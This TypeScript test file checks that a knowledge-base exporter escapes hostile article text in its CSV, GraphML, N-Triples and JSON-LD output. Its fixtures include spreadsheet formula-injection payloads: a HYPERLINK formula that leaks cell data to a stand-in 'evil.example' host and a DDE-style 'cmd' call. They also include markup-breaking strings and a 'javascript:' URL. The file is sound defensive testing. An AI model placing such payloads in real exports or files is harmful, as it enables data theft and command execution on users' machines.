/**
 * Exports of article-derived text that tries to break out of its format: spreadsheet formulas in
 * CSV cells, markup and forbidden characters in GraphML, quotes, backslashes and line breaks in
 * N-Triples literals, line separators in JSON-LD. A hostile article is written through the real
 * SQLite store; each export is read back and every value compared with what the store holds.
 */
import { describe, it, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Parser as N3Parser } from 'n3';
import { DOMParser } from 'linkedom';
import { hashText } from '../doc/document.js';
import { claimId, claimObjectKey } from '../model/ids.js';
import type { Literal } from '../model/types.js';
import { openSqliteStore } from '../store/sqlite/index.js';
import type { DocumentWrite, NewClaim, NewEntity, Store } from '../store/store.js';
import { exportKnowledgeBase } from './index.js';
import { csvField, csvRow, csvText, neutraliseFormula, parseCsv, ENTITY_COLUMNS, EVIDENCE_COLUMNS, FACT_COLUMNS } from './csv.js';
import { xmlEscape } from './graphml.js';
import { iri, quoted } from './ntriples.js';
import { jsonLine } from './jsonld.js';

/** Names and quotes an attacker could place in an article. */
const HOSTILE = {
  hyperlink: '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
  at: '@SUM(1+1)',
  plus: "+cmd|' /C calc'!A0",
  minus: '-2+3',
  tab: '\t=1+1',
  cr: '\r=2+2',
  quoted: "'=already quoted",
  markup: '</data></node><node id="x"/>&amp; <![CDATA[ ]]> \u0001\u0008\u000b\u000c\ufffe "q" \\ back',
  lines: 'line\nbreak\rreturn\u2028sep\u2029para\u0085nel',
} as const;

/** URL literals: only the first may become a node reference in JSON-LD. */
const URLS = ['https://example.com/sequel?a=1&b=2', '_:b0', 'urn:marquee:entity:ent_h_at', 'javascript:alert(1)'] as const;

/** Triggers a spreadsheet reads as the start of a formula. */
const FORMULA = /^[=+\-@\t\r]/;

function hostileWrite(): { write: DocumentWrite; ids: Record<keyof typeof HOSTILE | 'film', string> } {
  const film: NewEntity = { id: 'ent_h_film', name: HOSTILE.hyperlink, type: 'work', subtype: 'film' };
  const people = (Object.keys(HOSTILE) as (keyof typeof HOSTILE)[]).filter((k) => k !== 'hyperlink')
    .map((k): NewEntity => ({ id: `ent_h_${k}`, name: HOSTILE[k], type: 'person', subtype: null }));
  // One sentence per claim: "<film> | <person> | <character>." then quotes and metrics.
  let text = '';
  const claims: NewClaim[] = [];
  const mentions: { start: number; end: number; text: string; entityId: string }[] = [];
  const docId = 'doc_hostile0000000';
  const span = (s: string): [number, number] => {
    const start = text.length;
    text += s;
    return [start, text.length];
  };
  const claim = (predicate: string, subjectId: string, objectId: string | null, object: Literal | null, quote: [number, number], sentence: [number, number], qualifiers = {}) => {
    claims.push({
      id: claimId(predicate, subjectId, claimObjectKey(objectId, object), docId, quote[0], quote[1]),
      predicate, subjectId, objectId, object, qualifiers, modality: 'asserted', confidence: 0.9,
      start: quote[0], end: quote[1], sentenceStart: sentence[0], sentenceEnd: sentence[1], extractor: 'test.hostile',
    });
  };
  for (const p of people) {
    const s0 = text.length;
    const f = span(film.name);
    mentions.push({ start: f[0], end: f[1], text: film.name, entityId: film.id });
    text += ' stars ';
    const a = span(p.name);
    mentions.push({ start: a[0], end: a[1], text: p.name, entityId: p.id });
    text += ' as ';
    span(HOSTILE.at);
    text += '. ';
    claim('cast_member', film.id, p.id, null, [f[0], a[1]], [s0, text.length - 1], { character: HOSTILE.at });
  }
  const s1 = text.length;
  const q = span(HOSTILE.plus + ' ' + HOSTILE.lines);
  text += ' said someone. ';
  claim('said', 'ent_h_minus', null, { value: HOSTILE.plus + ' ' + HOSTILE.lines, datatype: 'string' }, q, [s1, text.length - 1]);
  for (const value of ['-3', '-2+3', '=1+1']) {
    const s = text.length;
    const v = span(value);
    text += ' takings. ';
    claim('box_office', film.id, null, { value, datatype: 'quantity' }, v, [s, text.length - 1]);
  }
  for (const value of URLS) {
    const s = text.length;
    const v = span(value);
    text += ' is the link. ';
    claim('sequel', film.id, null, { value, datatype: 'url' }, v, [s, text.length - 1]);
  }
  const sentences: { index: number; start: number; end: number }[] = [];
  for (const c of claims) if (!sentences.some((s) => s.start === c.sentenceStart)) sentences.push({ index: sentences.length, start: c.sentenceStart, end: c.sentenceEnd });
  const write: DocumentWrite = {
    document: {
      id: docId, textHash: hashText(text), rawHash: null, title: HOSTILE.hyperlink, source: HOSTILE.at, url: 'https://example.com/a?b=1&c=<2>',
      date: '2025-01-02', dateSource: 'field', author: HOSTILE.minus, language: 'en', path: null, text, duplicateOf: null,
    },
    sentences, newEntities: [film, ...people], aliases: [{ entityId: film.id, alias: HOSTILE.tab }], mentions, claims,
  };
  const ids = Object.fromEntries([['film', film.id], ...people.map((p) => [p.id.slice('ent_h_'.length), p.id])]) as Record<keyof typeof HOSTILE | 'film', string>;
  return { write, ids };
}

describe('escaping functions', () => {
  it('csv: neutralises formula cells inside quotes, keeps RFC 4180 quoting, and is reversible', () => {
    const cases: [string, string][] = [
      ['=HYPERLINK("http://x","y")', `"'=HYPERLINK(""http://x"",""y"")"`],
      ['@SUM(1+1)', `"'@SUM(1+1)"`],
      ['+cmd', `"'+cmd"`],
      ['-2+3', `"'-2+3"`],
      ['\t=1+1', `"'\t=1+1"`],
      ['\r=1+1', `"'\r=1+1"`],
      ["'=x", `"''=x"`],
      ["'Twas", "'Twas"],
      ['a=b', 'a=b'],
      ['plain, comma', '"plain, comma"'],
      ['', ''],
    ];
    for (const [input, want] of cases) {
      assert.equal(csvField(input), want, JSON.stringify(input));
      const [[back]] = parseCsv(csvField(input) + '\r\n');
      assert.equal(csvText(back ?? ''), input, `round trip of ${JSON.stringify(input)}`);
      assert.doesNotMatch(back ?? '', FORMULA, `${JSON.stringify(input)} opens as text`);
    }
    assert.equal(csvField(-3), '-3', 'a number the exporter knows stays a number');
    assert.equal(csvField({ number: '-3.5' }), '-3.5');
    assert.equal(csvField({ number: '-2+3' }), `"'-2+3"`, 'a would-be number that is not one is text');
    assert.equal(csvField(Number.NEGATIVE_INFINITY), `"'-Infinity"`);
    assert.equal(neutraliseFormula("''+x"), "'''+x");
    assert.equal(csvText("'''+x"), "''+x");
    assert.equal(csvRow(['=a', 1, null]), `"'=a",1,\r\n`);
  });

  it('xml: markup, forbidden characters and carriage returns', () => {
    assert.equal(xmlEscape('<a href="x">&\'</a>'), '&lt;a href=&quot;x&quot;&gt;&amp;&apos;&lt;/a&gt;');
    assert.equal(xmlEscape('a\u0000b\u0008c\u000bd\ufffee\uffff\ud800f\udc00'), 'a\ufffdb\ufffdc\ufffdd\ufffde\ufffd\ufffdf\ufffd');
    assert.equal(xmlEscape('tab\tlf\ncr\r\u{1F3AC}'), 'tab\tlf\ncr&#13;\u{1F3AC}', 'allowed characters and surrogate pairs kept');
  });

  it('n-triples: literal escapes keep a triple on one line; IRIs never hold raw unsafe characters', () => {
    assert.equal(quoted('a"b\\c\nd\re\tf'), '"a\\"b\\\\c\\nd\\re\\tf"');
    assert.equal(quoted('x\u2028y\u2029z\u0085w\u007f'), '"x\\u2028y\\u2029z\\u0085w\\u007F"');
    assert.equal(quoted('\ud800\u{1F3AC}'), '"\ufffd\u{1F3AC}"');
    assert.equal(iri('urn:x:a b\ud800"'), '<urn:x:a%20b%EF%BF%BD%22>');
    const line = `${iri('urn:s')} ${iri('urn:p')} ${quoted(HOSTILE.lines + HOSTILE.markup)} .\n`;
    assert.equal(line.split(/\r|\n|\u2028|\u2029|\u0085/).length, 2, 'one line');
    const [quad] = new N3Parser({ format: 'N-Triples' }).parse(line);
    assert.equal(quad.object.value, HOSTILE.lines + HOSTILE.markup);
  });

  it('json-ld: line separators escaped, the value unchanged', () => {
    const s = jsonLine({ name: HOSTILE.lines });
    assert.doesNotMatch(s, /[\n\r\u2028\u2029]/);
    assert.deepEqual(JSON.parse(s), { name: HOSTILE.lines });
  });
});

/**
 * A strict XML 1.0 well-formedness check for what the GraphML writer produces (no DTD, no
 * comments): legal characters only, known entity and character references, balanced tags, quoted
 * attributes without '<'. linkedom alone is lenient.
 */
function assertWellFormedXml(xml: string): void {
  assert.doesNotMatch(xml, /[^\t\n\r\u0020-\ud7ff\ue000-\ufffd\u{10000}-\u{10ffff}]/u, 'only XML 1.0 characters');
  assert.doesNotMatch(xml, /\r/, 'carriage returns as &#13; (a parser turns a raw one into a line feed)');
  assert.doesNotMatch(xml.replace(/&(amp|lt|gt|quot|apos|#\d+|#x[0-9a-fA-F]+);/g, ''), /&/, 'every & starts a reference');
  const body = xml.replace(/^<\?xml[^?]*\?>\s*/, '');
  const tag = /<(\/?)([A-Za-z_][\w.-]*)((?:\s+[\w.:-]+="[^"<]*")*)\s*(\/?)>/g;
  const stack: string[] = [];
  let last = 0;
  for (let m = tag.exec(body); m; m = tag.exec(body)) {
    assert.doesNotMatch(body.slice(last, m.index), /</, `no stray '<' before ${m[0].slice(0, 40)}`);
    last = tag.lastIndex;
    if (m[1]) assert.equal(stack.pop(), m[2], `closing </${m[2]}>`);
    else if (!m[4]) stack.push(m[2]);
  }
  assert.doesNotMatch(body.slice(last), /</);
  assert.deepEqual(stack, [], 'every element closed');
}

describe('exports of a hostile article (SQLite store)', () => {
  let dir: string;
  let store: Store;
  let ids: ReturnType<typeof hostileWrite>['ids'];
  /** Names as the store gives them back (SQLite stores text as UTF-8). */
  const stored = (id: string) => store.getEntity(id)!.name;

  before(() => {
    dir = mkdtempSync(join(tmpdir(), 'marquee-hostile-'));
    store = openSqliteStore(join(dir, 'kb.db'));
    const w = hostileWrite();
    assert.ok(store.putDocument(w.write));
    ids = w.ids;
  });
  after(() => {
    store.close();
    rmSync(dir, { recursive: true, force: true });
  });

  it('csv: no cell opens as a formula, every text comes back exactly, numbers stay numbers', async () => {
    const out = join(dir, 'csv');
    await exportKnowledgeBase(store, 'csv', out);
    const files = { 'entities.csv': ENTITY_COLUMNS, 'facts.csv': FACT_COLUMNS, 'evidence.csv': EVIDENCE_COLUMNS } as const;
    const read: Record<string, string[][]> = {};
    for (const [f, cols] of Object.entries(files)) {
      const rows = parseCsv(readFileSync(join(out, f), 'utf8'));
      for (const r of rows) assert.equal(r.length, cols.length, `${f}: ${JSON.stringify(r)}`);
      read[f] = rows;
    }
    const facts = read['facts.csv'];
    const col = (name: string) => (FACT_COLUMNS as readonly string[]).indexOf(name);
    for (const [f, rows] of Object.entries(read)) {
      for (const r of rows.slice(1)) {
        r.forEach((cell, i) => {
          const numberCell = f === 'facts.csv' && i === col('object_value') && /^-?\d+(\.\d+)?$/.test(cell);
          if (!numberCell) assert.doesNotMatch(cell, FORMULA, `${f} ${JSON.stringify(r[0])} column ${i}: ${JSON.stringify(cell)}`);
        });
      }
    }
    const entities = read['entities.csv'];
    for (const id of Object.values(ids)) {
      const row = entities.find((r) => r[0] === id);
      assert.ok(row, id);
      assert.equal(csvText(row[1]), stored(id), `name of ${id} round-trips`);
    }
    const aliases = store.entityAliases(ids.film).filter((a) => a !== stored(ids.film));
    assert.ok(aliases.length > 0);
    assert.equal(csvText(entities.find((r) => r[0] === ids.film)![5]), aliases.join('; '));
    const values = facts.filter((r) => r[col('predicate')] === 'box_office').map((r) => r[col('object_value')]).sort();
    assert.deepEqual(values, ["'-2+3", "'=1+1", '-3']);
    const raw = readFileSync(join(out, 'facts.csv'), 'utf8');
    assert.match(raw, /,-3,quantity,/, 'the number -3 is written bare');
    assert.ok(raw.includes(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click me"")"`), 'neutralised inside a quoted cell');
    const evidence = read['evidence.csv'];
    const ecol = (name: string) => (EVIDENCE_COLUMNS as readonly string[]).indexOf(name);
    const said = evidence.find((r) => csvText(r[ecol('quote')]).startsWith(HOSTILE.plus))!;
    assert.equal(csvText(said[ecol('quote')]), store.getDocument(said[ecol('document_id')])!.text.slice(Number(said[ecol('start')]), Number(said[ecol('end')])));
    assert.equal(csvText(said[ecol('document_title')]), HOSTILE.hyperlink);
  });

  it('graphml: strictly well-formed, labels and character names come back exactly', async () => {
    const file = join(dir, 'kb.graphml');
    await exportKnowledgeBase(store, 'graphml', file);
    const xml = readFileSync(file, 'utf8');
    assertWellFormedXml(xml);
    const dom = new DOMParser().parseFromString(xml, 'text/xml');
    const data = (el: Element, key: string) => Array.from(el.querySelectorAll('data')).find((d) => d.getAttribute('key') === key)?.textContent;
    const nodes = [...dom.querySelectorAll('node')];
    assert.equal(nodes.length, Object.keys(ids).length, 'the markup in a name made no extra node');
    const xmlText = (s: string) => s.replace(/[\u0000-\u0008\u000b\u000c\u000e-\u001f\ufffe\uffff]/g, '\ufffd');
    for (const id of Object.values(ids)) {
      const n = nodes.find((x) => x.getAttribute('id') === id);
      assert.ok(n, id);
      assert.equal(data(n, 'label'), xmlText(stored(id)), `label of ${id}`);
    }
    const edges = [...dom.querySelectorAll('edge')];
    assert.equal(edges.length, Object.keys(ids).length - 1);
    for (const e of edges) assert.equal(data(e, 'e_character'), HOSTILE.at);
  });

  it('ntriples: every line is one triple that parses, literals come back exactly', async () => {
    const file = join(dir, 'kb.nt');
    await exportKnowledgeBase(store, 'ntriples', file);
    const text = readFileSync(file, 'utf8');
    const lines = text.split(/\r\n|\r|\n|\u2028|\u2029|\u0085/).filter((l) => l.length > 0);
    for (const l of lines) assert.equal(new N3Parser({ format: 'N-Triples' }).parse(l + '\n').length, 1, l);
    const quads = new N3Parser({ format: 'N-Triples' }).parse(text);
    assert.equal(quads.length, lines.length);
    const labels = new Map(quads.filter((q) => q.predicate.value === 'http://www.w3.org/2000/01/rdf-schema#label').map((q) => [q.subject.value, q.object.value]));
    for (const id of Object.values(ids)) assert.equal(labels.get(`urn:marquee:entity:${id}`), stored(id), `label of ${id}`);
    const quote = quads.find((q) => q.predicate.value === 'urn:marquee:vocab:quote' && q.object.value.startsWith(HOSTILE.plus));
    assert.equal(quote?.object.value, HOSTILE.plus + ' ' + HOSTILE.lines);
    const headline = quads.find((q) => q.predicate.value === 'https://schema.org/headline');
    assert.equal(headline?.object.value, HOSTILE.hyperlink);
  });

  it('jsonld: one node per line, values come back exactly', async () => {
    const file = join(dir, 'kb.jsonld');
    await exportKnowledgeBase(store, 'jsonld', file);
    const text = readFileSync(file, 'utf8');
    assert.doesNotMatch(text, /[\u2028\u2029]/);
    const doc = JSON.parse(text) as { '@graph': Record<string, unknown>[] };
    const lines = text.split('\n').filter((l) => l.startsWith('{"@id"') || l.startsWith(',{"@id"') || l.startsWith('{'));
    assert.ok(lines.length >= doc['@graph'].length, 'each node on its own line');
    const byId = new Map(doc['@graph'].map((n) => [String(n['@id']), n]));
    for (const id of Object.values(ids)) assert.equal(byId.get(`urn:marquee:entity:${id}`)?.name, stored(id));
    const quote = doc['@graph'].find((n) => n['mq:predicateName'] === 'said');
    assert.equal(quote?.text, HOSTILE.plus + ' ' + HOSTILE.lines);
    const objects = doc['@graph'].filter((n) => n['mq:predicateName'] === 'sequel').map((n) => n['mq:object']);
    assert.deepEqual(
      objects.sort((a, b) => JSON.stringify(a).localeCompare(JSON.stringify(b))),
      [
        { '@id': URLS[0] },
        ...URLS.slice(1).map((u) => ({ '@value': u, '@type': 'xsd:anyURI' })),
      ].sort((a, b) => JSON.stringify(a).localeCompare(JSON.stringify(b))),
      'only an absolute http(s) URL becomes a node reference',
    );
    const film = byId.get(`urn:marquee:entity:${ids.film}`)!;
    const sequelKey = Object.keys(film).find((k) => k.endsWith('sequel'));
    assert.ok(sequelKey, Object.keys(film).join(' '));
    assert.deepEqual((film[sequelKey] as unknown[]).filter((v) => typeof v === 'object' && v !== null && '@id' in v), [{ '@id': URLS[0] }]);
  });
});
